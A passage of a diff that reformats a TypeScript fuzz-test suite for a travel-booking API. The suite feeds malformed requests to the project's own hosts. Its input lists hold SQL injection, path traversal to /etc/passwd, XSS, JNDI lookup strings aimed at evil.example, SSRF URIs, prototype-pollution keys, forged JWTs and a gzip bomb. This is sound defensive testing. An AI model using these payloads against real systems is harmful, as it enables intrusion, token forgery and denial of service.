@@ -39,8 +39,19 @@ import { build, testIds, tripPayload, SHOP_ORIGIN } from '../helpers/build.ts'
 import { routes } from '../../mock-server/host.ts'
 import { CONTACT, FULFILL_PASSENGERS } from '../helpers/flows.ts'
 import {
-  PROTOTYPE_NAMES, basicAuth, bearerAuth, bodyText, hostsUnderTest, json, makeTarget, problemViolations, watchWrites,
-  type HostUnderTest, type Req, type Res, type Target,
+  PROTOTYPE_NAMES,
+  basicAuth,
+  bearerAuth,
+  bodyText,
+  hostsUnderTest,
+  json,
+  makeTarget,
+  problemViolations,
+  watchWrites,
+  type HostUnderTest,
+  type Req,
+  type Res,
+  type Target,
 } from './support.ts'
 
 /** Every random value below comes from this seed: a failure found once is found again. */
@@ -56,32 +67,119 @@ const LONG = 'a'.repeat(100_000)
 /** Any JSON type where another is expected (some are valid somewhere: those cases simply succeed). */
 const WRONG_TYPES: Json[] = [null, true, 0, -1.5, '', 'x', [], {}, [null]]
 const NASTY_STRINGS: string[] = [
-  ' ', '\u0000', 'a\u0000b', "' OR 1=1 --", '"; DROP TABLE trips; --', '../../etc/passwd', '..\\..\\boot.ini', '%00',
-  '%2e%2e%2f', '<script>alert(1)</script>', '${jndi:ldap://evil.example/a}', '{{7*7}}', 'line\r\nX-Injected: 1',
+  ' ',
+  '\u0000',
+  'a\u0000b',
+  "' OR 1=1 --",
+  '"; DROP TABLE trips; --',
+  '../../etc/passwd',
+  '..\\..\\boot.ini',
+  '%00',
+  '%2e%2e%2f',
+  '<script>alert(1)</script>',
+  '${jndi:ldap://evil.example/a}',
+  '{{7*7}}',
+  'line\r\nX-Injected: 1',
   // Lone surrogates: JSON.stringify writes them as \ud800 escapes, which parse back to unpaired UTF-16.
-  '\ud800', '\udfff\ud800', '\u202egnp.exe', 'A\uffff', 'A\u0007B', 'A\u200bB', '😀'.repeat(64), 'ß'.repeat(3_000), 'a'.repeat(129), LONG,
+  '\ud800',
+  '\udfff\ud800',
+  '\u202egnp.exe',
+  'A\uffff',
+  'A\u0007B',
+  'A\u200bB',
+  '😀'.repeat(64),
+  'ß'.repeat(3_000),
+  'a'.repeat(129),
+  LONG,
 ]
 /** Besides ±1e308, which every number gets. */
 const NASTY_NUMBERS: number[] = [
-  Number.MAX_SAFE_INTEGER, 2 ** 53 + 2, 2 ** 50, 2 ** 50 + 1, -(2 ** 50) - 1, 5e-324, 1e21, 0.1, 0.3,
-  1.005, 999.999, -0.01, 10,
+  Number.MAX_SAFE_INTEGER,
+  2 ** 53 + 2,
+  2 ** 50,
+  2 ** 50 + 1,
+  -(2 ** 50) - 1,
+  5e-324,
+  1e21,
+  0.1,
+  0.3,
+  1.005,
+  999.999,
+  -0.01,
+  10,
 ]
 /** Number-like text JSON.stringify cannot write: some is valid JSON (1e400, given to every number, parses to Infinity), most is not. */
-const RAW_NUMBERS = ['-1e400', '1e-400', '-0', '1.0', '1e2', 'NaN', 'Infinity', '-Infinity', '0x10', '01', '+1', '.5', '1.', '1e', '--1']
+const RAW_NUMBERS = [
+  '-1e400',
+  '1e-400',
+  '-0',
+  '1.0',
+  '1e2',
+  'NaN',
+  'Infinity',
+  '-Infinity',
+  '0x10',
+  '01',
+  '+1',
+  '.5',
+  '1.',
+  '1e',
+  '--1',
+]
 /** Calendar dates that are no date, in the future (the clock is 2026-11-22), or at the edges of what Date handles. */
 const DATES = [
-  '1982-13-45', '2023-02-30', '0000-00-00', '2021-04-31', '1990-1-1', '19900101', '1990-01-01T00:00:00Z', '1990-01-01 ',
-  '2999-01-01', '2026-11-23', '1800-01-01', '2024-02-29', '2100-02-29', '0001-01-01', '9999-12-31', '-001990-01-01', '+275760-09-13',
+  '1982-13-45',
+  '2023-02-30',
+  '0000-00-00',
+  '2021-04-31',
+  '1990-1-1',
+  '19900101',
+  '1990-01-01T00:00:00Z',
+  '1990-01-01 ',
+  '2999-01-01',
+  '2026-11-23',
+  '1800-01-01',
+  '2024-02-29',
+  '2100-02-29',
+  '0001-01-01',
+  '9999-12-31',
+  '-001990-01-01',
+  '+275760-09-13',
 ]
 const DATE_TIMES = [
-  '2026-02-30T10:00:00Z', '2026-13-45T10:00:00Z', '0000-00-00T00:00:00Z', '2026-12-22T24:00:00Z', '2026-12-22T23:59:60Z',
-  '2026-12-22T10:00:00+99:99', '2026-12-22T10:00:00-00:00', '9999-12-31T23:59:59-23:59', '0001-01-01T00:00:00Z',
-  '2020-01-01T00:00:00Z', '2026-12-22T10:00:00.123456789+05:45', '2026-12-22T10:00', '2026-12-22', '2026-12-22t10:00:00Z',
+  '2026-02-30T10:00:00Z',
+  '2026-13-45T10:00:00Z',
+  '0000-00-00T00:00:00Z',
+  '2026-12-22T24:00:00Z',
+  '2026-12-22T23:59:60Z',
+  '2026-12-22T10:00:00+99:99',
+  '2026-12-22T10:00:00-00:00',
+  '9999-12-31T23:59:59-23:59',
+  '0001-01-01T00:00:00Z',
+  '2020-01-01T00:00:00Z',
+  '2026-12-22T10:00:00.123456789+05:45',
+  '2026-12-22T10:00',
+  '2026-12-22',
+  '2026-12-22t10:00:00Z',
 ]
-const EMAILS = ['a@b', 'not-an-email', '"><script>@x.example', `${'a'.repeat(250)}@x.example`, 'user@[127.0.0.1]', 'a@b@c.example']
+const EMAILS = [
+  'a@b',
+  'not-an-email',
+  '"><script>@x.example',
+  `${'a'.repeat(250)}@x.example`,
+  'user@[127.0.0.1]',
+  'a@b@c.example',
+]
 const URIS = [
-  'javascript:alert(1)', 'file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/', 'http://localhost:5432/',
-  'https://user:pass@evil.example/', 'ftp://evil.example/', `https://${'a'.repeat(2_000)}.example/`, 'https://[::1]/', '//evil.example',
+  'javascript:alert(1)',
+  'file:///etc/passwd',
+  'http://169.254.169.254/latest/meta-data/',
+  'http://localhost:5432/',
+  'https://user:pass@evil.example/',
+  'ftp://evil.example/',
+  `https://${'a'.repeat(2_000)}.example/`,
+  'https://[::1]/',
+  '//evil.example',
 ]
 /** Strings that pass a code's pattern without naming anything (an unknown airport, currency or airline), or almost pass it. */
 const CODES = ['ZZZ', 'AAA', 'XX', '00', 'ÅÅÅ', 'zz']
@@ -134,7 +232,12 @@ function edited(base: Json, path: Path, edit: Edit): Uint8Array {
     return utf8(JSON.stringify(root))
   }
   // defineProperty, so a key named __proto__ becomes an own property that JSON.stringify writes out.
-  Object.defineProperty(node, last, { value: 'raw' in edit ? SENTINEL : edit.value, enumerable: true, writable: true, configurable: true })
+  Object.defineProperty(node, last, {
+    value: 'raw' in edit ? SENTINEL : edit.value,
+    enumerable: true,
+    writable: true,
+    configurable: true,
+  })
   const text = JSON.stringify(root)
   if (!('raw' in edit)) return utf8(text)
   const [head, tail] = text.split(JSON.stringify(SENTINEL)) as [string, string]
@@ -144,11 +247,19 @@ function edited(base: Json, path: Path, edit: Edit): Uint8Array {
 
 /** A JSON object's text with one more member in front, written raw (so `__proto__` stays a plain key). */
 const withMember = (base: Json, key: string, valueText: string) => {
-  const rest = base && typeof base === 'object' && !Array.isArray(base) && Object.keys(base).length > 0 ? `,${JSON.stringify(base).slice(1)}` : '}'
+  const rest =
+    base && typeof base === 'object' && !Array.isArray(base) && Object.keys(base).length > 0
+      ? `,${JSON.stringify(base).slice(1)}`
+      : '}'
   return `{${JSON.stringify(key)}:${valueText}${rest}`
 }
 
-interface Field { path: Path; schema: Record<string, any>; value: Json; present: boolean }
+interface Field {
+  path: Path
+  schema: Record<string, any>
+  value: Json
+  present: boolean
+}
 
 /** A schema and, through anyOf, every branch of it. */
 const branches = (schema: Record<string, any>): Array<Record<string, any>> =>
@@ -168,10 +279,12 @@ function fieldsOf(schema: Record<string, any>, value: Json, path: Path = [], out
     out.set(id, { path: at, schema: sub, value: child, present })
     if (present) fieldsOf(sub, child, at, out)
   }
-  const obj = value && typeof value === 'object' && !Array.isArray(value) ? value as Record<string, unknown> : undefined
+  const obj =
+    value && typeof value === 'object' && !Array.isArray(value) ? (value as Record<string, unknown>) : undefined
   for (const s of branches(schema)) {
     if (s.type === 'object' && s.properties) {
-      for (const [k, sub] of Object.entries(s.properties as Record<string, any>)) add(k, sub, obj?.[k], !!obj && Object.hasOwn(obj, k))
+      for (const [k, sub] of Object.entries(s.properties as Record<string, any>))
+        add(k, sub, obj?.[k], !!obj && Object.hasOwn(obj, k))
     }
     if (s.type === 'object' && s.patternProperties && obj) {
       for (const [pattern, sub] of Object.entries(s.patternProperties as Record<string, any>)) {
@@ -196,7 +309,9 @@ function kindsOf(schema: Record<string, any>): Set<string> {
 /** Whether a schema is (or allows) an id of the API: product, passenger, ticket, basket item ids. */
 const isId = (schema: Record<string, any>) => {
   const id = S.Id as Record<string, any>
-  return branches(schema).some((b) => b.type === 'string' && b.minLength === id.minLength && b.maxLength === id.maxLength)
+  return branches(schema).some(
+    (b) => b.type === 'string' && b.minLength === id.minLength && b.maxLength === id.maxLength,
+  )
 }
 
 /**
@@ -219,7 +334,10 @@ function editsFor(field: Field): Edit[] {
     for (const value of [...nasty, draw(STRING_POOL)]) edits.push({ label: `string ${show(value)}`, value })
     // Invalid UTF-8 bytes inside an otherwise well-formed string.
     const [bytes] = take(BAD_UTF8, 1) as [number[]]
-    edits.push({ label: `bad UTF-8 ${bytes.map((b) => b.toString(16)).join(' ')}`, raw: Buffer.concat([utf8('"ok'), Buffer.from(bytes), utf8('"')]) })
+    edits.push({
+      label: `bad UTF-8 ${bytes.map((b) => b.toString(16)).join(' ')}`,
+      raw: Buffer.concat([utf8('"ok'), Buffer.from(bytes), utf8('"')]),
+    })
     const formats = new Set(strings.map((b) => b.format))
     const patterned = strings.some((b) => b.pattern)
     const extra = [
@@ -242,7 +360,8 @@ function editsFor(field: Field): Edit[] {
   if (kinds.has('boolean')) for (const value of ['true', 1]) edits.push({ label: `boolean ${show(value)}`, value })
   if (kinds.has('object')) {
     const members = base && typeof base === 'object' && !Array.isArray(base) ? base : {}
-    for (const name of new Set(['__proto__', ...take(PROTOTYPE_NAMES, 1)])) edits.push({ label: `member ${name}`, raw: withMember(members, name, '{"polluted":true}') })
+    for (const name of new Set(['__proto__', ...take(PROTOTYPE_NAMES, 1)]))
+      edits.push({ label: `member ${name}`, raw: withMember(members, name, '{"polluted":true}') })
     edits.push(
       { label: 'constructor.prototype', raw: withMember(members, 'constructor', '{"prototype":{"polluted":true}}') },
       { label: 'unknown member', raw: withMember(members, 'zz_unknown', '1') },
@@ -275,14 +394,29 @@ interface Base {
 function baseOf(op: Operation, t: Target, now: Date): Base {
   const params: Record<string, string> = {}
   for (const [, name] of op.path.matchAll(/:(\w+)/g)) {
-    params[name!] = ({ trip_id: t.trip.trip_id, search_id: t.trip.search_id, basket_item_id: t.items.bag, subscription_id: t.subscriptionId } as Record<string, string>)[name!]!
+    params[name!] = (
+      {
+        trip_id: t.trip.trip_id,
+        search_id: t.trip.search_id,
+        basket_item_id: t.items.bag,
+        subscription_id: t.subscriptionId,
+      } as Record<string, string>
+    )[name!]!
     assert.ok(params[name!], `${op.id}: no target id for :${name}`)
   }
   const auth = op.auth === 'public' ? undefined : basicAuth(t.apiKey)
   const b = (body?: Json, query = ''): Base => ({ op, params, query, body, auth })
   switch (op.id) {
-    case 'authorize': case 'getTrip': case 'getBasket': case 'getTripEvents': case 'removeFromBasket': case 'checkBasket': case 'acceptItem':
-    case 'listSubscriptions': case 'deleteSubscription': case 'jwks':
+    case 'authorize':
+    case 'getTrip':
+    case 'getBasket':
+    case 'getTripEvents':
+    case 'removeFromBasket':
+    case 'checkBasket':
+    case 'acceptItem':
+    case 'listSubscriptions':
+    case 'deleteSubscription':
+    case 'jwks':
       return b()
     case 'getSearch':
       return b(undefined, '?product_types=bag')
@@ -292,34 +426,62 @@ function baseOf(op: Operation, t: Target, now: Date): Base {
       return b(fullTripRequest(now))
     case 'patchTrip':
       return b({
-        passengers: [{
-          passenger_id: 'p1', first_names: 'Ada', surname: 'Lovelace', date_of_birth: '1985-12-10', gender: 'female', title: 'Ms',
-          metadata: { crm: 'C-1', tags: ['vip', 2] },
-          loyalty_programs: [{ airline_id: 'BA', program_name: 'Executive Club', number: '12345678', tier_name: 'Gold' }],
-          identity_documents: [{ document_type: 'passport', document_number: 'X1234567' }],
-        }],
+        passengers: [
+          {
+            passenger_id: 'p1',
+            first_names: 'Ada',
+            surname: 'Lovelace',
+            date_of_birth: '1985-12-10',
+            gender: 'female',
+            title: 'Ms',
+            metadata: { crm: 'C-1', tags: ['vip', 2] },
+            loyalty_programs: [
+              { airline_id: 'BA', program_name: 'Executive Club', number: '12345678', tier_name: 'Gold' },
+            ],
+            identity_documents: [{ document_type: 'passport', document_number: 'X1234567' }],
+          },
+        ],
         contact_details: { ...CONTACT, address: { ...CONTACT.address, state: null } },
       })
     case 'startSearch':
       return b({ bag: { search: true }, priority_boarding: { search: true } })
     case 'addToBasket':
-      return b([{ product_id: t.products.bagP2, passenger_id: 'p2', quantity: 1, markup: { amount: 250, currency: 'EUR', decimal_places: 2 } }])
+      return b([
+        {
+          product_id: t.products.bagP2,
+          passenger_id: 'p2',
+          quantity: 1,
+          markup: { amount: 250, currency: 'EUR', decimal_places: 2 },
+        },
+      ])
     case 'replaceBasket':
-      return b([{ product_id: t.products.bag, passenger_id: 'p1', quantity: 1 }, { product_id: t.products.otherSeat, passenger_id: 'p2', quantity: 1 }])
+      return b([
+        { product_id: t.products.bag, passenger_id: 'p1', quantity: 1 },
+        { product_id: t.products.otherSeat, passenger_id: 'p2', quantity: 1 },
+      ])
     case 'fulfill':
       return b({
         trip_state_hash: t.stateHash,
         contact_details: CONTACT,
         passengers: FULFILL_PASSENGERS,
-        tickets: t.trip.tickets.map((tk, i) => ({ ticket_id: tk.ticket_id, access_details: { record_locator: `ABC12${i}`, ticket_number: `125000000000${i}` }, status: 'booked' })),
+        tickets: t.trip.tickets.map((tk, i) => ({
+          ticket_id: tk.ticket_id,
+          access_details: { record_locator: `ABC12${i}`, ticket_number: `125000000000${i}` },
+          status: 'booked',
+        })),
         payment_details: { payment_type: 'service_settlement' },
       })
     case 'createSubscription':
-      return b({ delivery_method: 'http', target: 'https://hooks.shop.example/fuzz', event_name: 'fulfillment_completed' })
+      return b({
+        delivery_method: 'http',
+        target: 'https://hooks.shop.example/fuzz',
+        event_name: 'fulfillment_completed',
+      })
     // On the target's fulfilled trip, whose bag's order succeeded and has a quote to confirm.
     case 'quoteCancellation':
       return { op, params: { trip_id: t.booked.trip_id }, query: '', body: { basket_item_ids: [t.booked.bag] }, auth }
-    case 'getCancellationQuote': case 'confirmCancellation':
+    case 'getCancellationQuote':
+    case 'confirmCancellation':
       return { op, params: { trip_id: t.booked.trip_id }, query: '', auth }
     case 'refreshToken':
       return b({ refresh_token: t.trip.refresh_token })
@@ -334,11 +496,21 @@ function fullTripRequest(now: Date) {
   p.search = { bag: { search: true } }
   const ticket = p.tickets[0]!
   ticket.journeys[0]!.segments[0] = {
-    ...ticket.journeys[0]!.segments[0]!, operating_airline: 'BA', operating_flight_number: '117', metadata: { leg: 'out', codes: ['a', 1] },
+    ...ticket.journeys[0]!.segments[0]!,
+    operating_airline: 'BA',
+    operating_flight_number: '117',
+    metadata: { leg: 'out', codes: ['a', 1] },
   }
   p.passengers[0] = {
-    passenger_id: 'p1', passenger_type: 'adult', on_lap_of: null, first_names: 'Ada', surname: 'Lovelace', date_of_birth: '1985-12-10',
-    gender: 'female', title: 'Ms', metadata: { crm: 'C-1', nested: { tier: 'gold' } },
+    passenger_id: 'p1',
+    passenger_type: 'adult',
+    on_lap_of: null,
+    first_names: 'Ada',
+    surname: 'Lovelace',
+    date_of_birth: '1985-12-10',
+    gender: 'female',
+    title: 'Ms',
+    metadata: { crm: 'C-1', nested: { tier: 'gold' } },
     loyalty_programs: [{ airline_id: 'BA', program_name: 'Executive Club', number: '12345678', tier_name: 'Gold' }],
     identity_documents: [{ document_type: 'passport', document_number: 'X1234567' }],
   }
@@ -351,17 +523,32 @@ function fullTripRequest(now: Date) {
 // ---------------------------------------------------------------- cases
 
 /** `valid`: the operation's valid request, which the other cases change one thing of; it must succeed. */
-interface Case { what: string; req: Req; valid?: boolean }
+interface Case {
+  what: string
+  req: Req
+  valid?: boolean
+}
 
 /** Valid requests refused on purpose: the target's bag is `valid`, and only a `price_changed` item can be accepted. */
 const REFUSED_WHEN_VALID: Record<string, number> = { acceptItem: 409 }
 
 /** The path of `op` with `params`, each encoded as a client would, except those named in `raw`. */
 function pathOf(op: Operation, params: Record<string, string>, raw: ReadonlySet<string> = new Set()): string {
-  return op.path.replace(/:(\w+)/g, (_, name: string) => (raw.has(name) ? params[name]! : encodeURIComponent(params[name]!)))
+  return op.path.replace(/:(\w+)/g, (_, name: string) =>
+    raw.has(name) ? params[name]! : encodeURIComponent(params[name]!),
+  )
 }
 
-function request(b: Base, change: { method?: string; path?: string; query?: string; body?: Uint8Array | null; headers?: Record<string, string | undefined> } = {}): Req {
+function request(
+  b: Base,
+  change: {
+    method?: string
+    path?: string
+    query?: string
+    body?: Uint8Array | null
+    headers?: Record<string, string | undefined>
+  } = {},
+): Req {
   const headers: Record<string, string | undefined> = {}
   if (b.auth !== undefined) headers.authorization = b.auth
   let body: Uint8Array | undefined
@@ -382,7 +569,13 @@ function request(b: Base, change: { method?: string; path?: string; query?: stri
 const b64url = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url')
 const jwtParts = (token: string) => {
   const [h, p, s] = token.split('.') as [string, string, string]
-  return { h, p, s, header: JSON.parse(Buffer.from(h, 'base64url').toString()), payload: JSON.parse(Buffer.from(p, 'base64url').toString()) }
+  return {
+    h,
+    p,
+    s,
+    header: JSON.parse(Buffer.from(h, 'base64url').toString()),
+    payload: JSON.parse(Buffer.from(p, 'base64url').toString()),
+  }
 }
 
 /** Credentials that are missing, malformed, of another seller, another trip or another kind, or forged. */
@@ -423,7 +616,10 @@ function credentials(t: Target, otherApiKey: string): Array<[string, string | un
     ['Bearer, refresh token', bearerAuth(t.trip.refresh_token)],
     ['Bearer, alg none', bearerAuth(`${b64url({ ...tok.header, alg: 'none' })}.${tok.p}.`)],
     ['Bearer, HS256 header', bearerAuth(`${b64url({ ...tok.header, alg: 'HS256' })}.${tok.p}.${tok.s}`)],
-    ['Bearer, sub of the other seller trip', bearerAuth(`${tok.h}.${b64url({ ...tok.payload, sub: t.foreign.trip_id })}.${tok.s}`)],
+    [
+      'Bearer, sub of the other seller trip',
+      bearerAuth(`${tok.h}.${b64url({ ...tok.payload, sub: t.foreign.trip_id })}.${tok.s}`),
+    ],
     ['Bearer, exp extended', bearerAuth(`${tok.h}.${b64url({ ...tok.payload, exp: 4_102_444_800 })}.${tok.s}`)],
     ['Bearer, tampered signature', bearerAuth(`${tok.h}.${tok.p}.${tok.s.slice(0, -4)}AAAA`)],
     ['Bearer, kid traversal', bearerAuth(`${b64url({ ...tok.header, kid: '../../etc/passwd' })}.${tok.p}.${tok.s}`)],
@@ -437,37 +633,142 @@ function credentials(t: Target, otherApiKey: string): Array<[string, string | un
 }
 
 const PATH_EXTRAS = [
-  ...PROTOTYPE_NAMES, "' OR 1=1 --", '1 OR 1=1', '"; DROP TABLE trips; --', '../../etc/passwd', '..', '.', '%00', '\u0000',
-  '<script>alert(1)</script>', '${jndi:ldap://evil.example/a}', 'a'.repeat(128), 'a'.repeat(129), 'a'.repeat(256),
-  'a'.repeat(257), 'a'.repeat(5_000), '😀', 'ß', ' ', '00000000-0000-0000-0000-000000000000',
+  ...PROTOTYPE_NAMES,
+  "' OR 1=1 --",
+  '1 OR 1=1',
+  '"; DROP TABLE trips; --',
+  '../../etc/passwd',
+  '..',
+  '.',
+  '%00',
+  '\u0000',
+  '<script>alert(1)</script>',
+  '${jndi:ldap://evil.example/a}',
+  'a'.repeat(128),
+  'a'.repeat(129),
+  'a'.repeat(256),
+  'a'.repeat(257),
+  'a'.repeat(5_000),
+  '😀',
+  'ß',
+  ' ',
+  '00000000-0000-0000-0000-000000000000',
 ]
 /** Segments sent as they are, not encoded: bad percent-encoding, encoded traversal and NUL, an empty segment. */
-const RAW_SEGMENTS = ['%', '%zz', '%E0%A4%A', '%C0%AF', '%ED%A0%80', '%FF', '%00', '%2e%2e', '%2F', '%252e%252e', "'%20OR%201=1%20--", '..%2F..%2Fetc%2Fpasswd', '', '..', '.']
+const RAW_SEGMENTS = [
+  '%',
+  '%zz',
+  '%E0%A4%A',
+  '%C0%AF',
+  '%ED%A0%80',
+  '%FF',
+  '%00',
+  '%2e%2e',
+  '%2F',
+  '%252e%252e',
+  "'%20OR%201=1%20--",
+  '..%2F..%2Fetc%2Fpasswd',
+  '',
+  '..',
+  '.',
+]
 const QUERIES = [
-  '?&&', '?__proto__=1', '?__proto__[polluted]=1', '?constructor[prototype][polluted]=1', '?a=%ZZ', '?%=1',
-  `?x=${'a'.repeat(10_000)}`, '?a=1&a=2', "?q='%20OR%201=1%20--", '?product_types[__proto__]=bag',
+  '?&&',
+  '?__proto__=1',
+  '?__proto__[polluted]=1',
+  '?constructor[prototype][polluted]=1',
+  '?a=%ZZ',
+  '?%=1',
+  `?x=${'a'.repeat(10_000)}`,
+  '?a=1&a=2',
+  "?q='%20OR%201=1%20--",
+  '?product_types[__proto__]=bag',
 ]
 const PRODUCT_TYPES = [
-  '', 'bag,', ',bag', 'BAG', 'bag,,seat', 'bag,bag', 'ticket', '__proto__', 'constructor', 'toString', 'seat',
-  'bag,seat,priority_boarding,automatic_check_in,fare_family_upsell', "bag'%20OR%201=1%20--", 'bag%00', 'bag%2Cseat', 'x'.repeat(5_000), '%E0%A4%A', 'bag%20',
+  '',
+  'bag,',
+  ',bag',
+  'BAG',
+  'bag,,seat',
+  'bag,bag',
+  'ticket',
+  '__proto__',
+  'constructor',
+  'toString',
+  'seat',
+  'bag,seat,priority_boarding,automatic_check_in,fare_family_upsell',
+  "bag'%20OR%201=1%20--",
+  'bag%00',
+  'bag%2Cseat',
+  'x'.repeat(5_000),
+  '%E0%A4%A',
+  'bag%20',
 ]
 /** Values of any query parameter (sent as they are): numbers out of range, times that are none, cursors that are not ours. */
 const QUERY_VALUES = [
-  '', '0', '-1', '1', '200', '201', '1e2', '0x10', '1.5', '050', '9'.repeat(400), 'null', 'true', '__proto__', 'constructor',
-  'succeeded', 'SUCCEEDED', 'in_progress', "'%20OR%201=1%20--", '%00', '%E0%A4%A', 'x'.repeat(5_000),
-  '2026-12-22T23:59:60Z', '2026-02-30T10:00:00Z', '9999-12-31T23:59:59-23:59', '9999-12-31T23:59:59.999Z', '0000-01-01T00:00:00Z',
-  '%2B275760-09-13T00:00:00Z', '2026-12-22T10:00:00%2B05:45', '2026-12-22',
+  '',
+  '0',
+  '-1',
+  '1',
+  '200',
+  '201',
+  '1e2',
+  '0x10',
+  '1.5',
+  '050',
+  '9'.repeat(400),
+  'null',
+  'true',
+  '__proto__',
+  'constructor',
+  'succeeded',
+  'SUCCEEDED',
+  'in_progress',
+  "'%20OR%201=1%20--",
+  '%00',
+  '%E0%A4%A',
+  'x'.repeat(5_000),
+  '2026-12-22T23:59:60Z',
+  '2026-02-30T10:00:00Z',
+  '9999-12-31T23:59:59-23:59',
+  '9999-12-31T23:59:59.999Z',
+  '0000-01-01T00:00:00Z',
+  '%2B275760-09-13T00:00:00Z',
+  '2026-12-22T10:00:00%2B05:45',
+  '2026-12-22',
   // Cursor-like: base64url of a position without, or with a wrong, checksum; base64url that is not UTF-8.
-  Buffer.from('[1,0,null,null]').toString('base64url'), Buffer.from('[1,0,null,null].0000000000000000').toString('base64url'),
-  Buffer.from('[1,-1,null,null].0000000000000000').toString('base64url'), Buffer.from([0xff, 0xfe, 0x2e]).toString('base64url'), 'AAAA', '_-_-',
+  Buffer.from('[1,0,null,null]').toString('base64url'),
+  Buffer.from('[1,0,null,null].0000000000000000').toString('base64url'),
+  Buffer.from('[1,-1,null,null].0000000000000000').toString('base64url'),
+  Buffer.from([0xff, 0xfe, 0x2e]).toString('base64url'),
+  'AAAA',
+  '_-_-',
 ]
 const CONTENT_TYPES = [
-  'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/jsonp',
-  'application/problem+json', 'application/merge-patch+json', 'application/json; charset=latin1', 'application/json; charset=utf-16',
-  'Application/JSON', 'application/json;', 'application/json, text/html', '', '*/*', 'application/json\u0000',
+  'text/plain',
+  'application/x-www-form-urlencoded',
+  'multipart/form-data; boundary=x',
+  'application/xml',
+  'application/jsonp',
+  'application/problem+json',
+  'application/merge-patch+json',
+  'application/json; charset=latin1',
+  'application/json; charset=utf-16',
+  'Application/JSON',
+  'application/json;',
+  'application/json, text/html',
+  '',
+  '*/*',
+  'application/json\u0000',
 ]
 /** The whole-body cases sent to operations that take no body. */
-const BODYLESS_KEPT = new Set(['{}', 'truncated to 1 byte', 'bad UTF-8 up front', 'objects nested 10,000 deep', 'too large (300 KB)'])
+const BODYLESS_KEPT = new Set([
+  '{}',
+  'truncated to 1 byte',
+  'bad UTF-8 up front',
+  'objects nested 10,000 deep',
+  'too large (300 KB)',
+])
 const METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND']
 
 /** Every case of every operation, in a fixed order (the same for both hosts). */
@@ -500,44 +801,85 @@ function casesFor(t: Target, otherApiKey: string, now: Date): Case[] {
     const text = base.body === undefined ? '{}' : JSON.stringify(base.body)
     const bytes = utf8(text)
     const bodies: Array<[string, Uint8Array | null]> = [
-      ['no body', null], ['empty body', new Uint8Array(0)], ['whitespace', utf8(' \n\t ')],
+      ['no body', null],
+      ['empty body', new Uint8Array(0)],
+      ['whitespace', utf8(' \n\t ')],
       ['BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), bytes])],
       ['two BOMs', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), bytes])],
       ['UTF-16LE with BOM', Buffer.from(`\ufeff${text}`, 'utf16le')],
       ['UTF-16BE with BOM', Buffer.from(`\ufeff${text}`, 'utf16le').swap16()],
-      ['truncated to 1 byte', bytes.slice(0, 1)], ['truncated to half', bytes.slice(0, Math.floor(bytes.length / 2))],
+      ['truncated to 1 byte', bytes.slice(0, 1)],
+      ['truncated to half', bytes.slice(0, Math.floor(bytes.length / 2))],
       ['truncated by 1 byte', bytes.slice(0, -1)],
-      ['trailing garbage', utf8(`${text}x`)], ['twice', utf8(`${text}${text}`)], ['trailing NUL', utf8(`${text}\u0000`)],
-      ['single quotes', utf8(text.replace('"', "'"))], ['comment', utf8(`/* c */${text}`)],
+      ['trailing garbage', utf8(`${text}x`)],
+      ['twice', utf8(`${text}${text}`)],
+      ['trailing NUL', utf8(`${text}\u0000`)],
+      ['single quotes', utf8(text.replace('"', "'"))],
+      ['comment', utf8(`/* c */${text}`)],
       ['trailing comma', utf8(`${text.slice(0, -1)},${text.slice(-1)}`)],
       ['bad UTF-8 up front', Buffer.concat([Buffer.from([0xff, 0xfe, 0xfd]), bytes])],
-      ...BAD_UTF8.map((b): [string, Uint8Array] => [`bad UTF-8 in a key ${b.map((x) => x.toString(16)).join(' ')}`, Buffer.concat([utf8('{"'), Buffer.from(b), utf8(`":1,${text.slice(1)}`)])]),
-      ['null', utf8('null')], ['true', utf8('true')], ['0', utf8('0')], ['a string', utf8('"str"')], ['[]', utf8('[]')],
-      ['{}', utf8('{}')], ['[{}]', utf8('[{}]')], ['wrapped in an array', utf8(`[${text}]`)],
+      ...BAD_UTF8.map((b): [string, Uint8Array] => [
+        `bad UTF-8 in a key ${b.map((x) => x.toString(16)).join(' ')}`,
+        Buffer.concat([utf8('{"'), Buffer.from(b), utf8(`":1,${text.slice(1)}`)]),
+      ]),
+      ['null', utf8('null')],
+      ['true', utf8('true')],
+      ['0', utf8('0')],
+      ['a string', utf8('"str"')],
+      ['[]', utf8('[]')],
+      ['{}', utf8('{}')],
+      ['[{}]', utf8('[{}]')],
+      ['wrapped in an array', utf8(`[${text}]`)],
       ['100,000 nulls', utf8(`[${new Array(100_000).fill('null').join(',')}]`)],
-      ['objects nested 10,000 deep', utf8(deepObject(10_000))], ['arrays nested 10,000 deep', utf8(deepArray(10_000))],
+      ['objects nested 10,000 deep', utf8(deepObject(10_000))],
+      ['arrays nested 10,000 deep', utf8(deepArray(10_000))],
       ['too large (300 KB)', utf8(`{"pad":"${'x'.repeat(300_000)}"}`)],
     ]
     // An operation that takes no body reads none (only parses it): a few kinds of bad body are enough there.
     const kept = op.body ? bodies : bodies.filter(([label]) => BODYLESS_KEPT.has(label))
     for (const [label, body] of kept) add(op, `body: ${label}`, request(base, { body }))
-    for (const type of op.body ? CONTENT_TYPES : CONTENT_TYPES.slice(0, 1)) add(op, `content-type ${show(type)}`, request(base, { body: bytes, headers: { 'content-type': type } }))
+    for (const type of op.body ? CONTENT_TYPES : CONTENT_TYPES.slice(0, 1))
+      add(op, `content-type ${show(type)}`, request(base, { body: bytes, headers: { 'content-type': type } }))
     add(op, 'a body without a content type', request(base, { body: bytes, headers: { 'content-type': undefined } }))
     if (op.body) {
       // Neither host decompresses request bodies (server/plugins/compression.ts): no zip bomb to defuse.
       add(op, 'a gzipped body', request(base, { body: gzipSync(bytes), headers: { 'content-encoding': 'gzip' } }))
-      add(op, 'a gzip bomb (10 MB of zeros)', request(base, { body: GZIP_BOMB, headers: { 'content-encoding': 'gzip' } }))
+      add(
+        op,
+        'a gzip bomb (10 MB of zeros)',
+        request(base, { body: GZIP_BOMB, headers: { 'content-encoding': 'gzip' } }),
+      )
       add(op, 'content-encoding br, body plain', request(base, { body: bytes, headers: { 'content-encoding': 'br' } }))
     }
 
     // One path parameter at a time.
     for (const name of Object.keys(base.params)) {
       const others = [
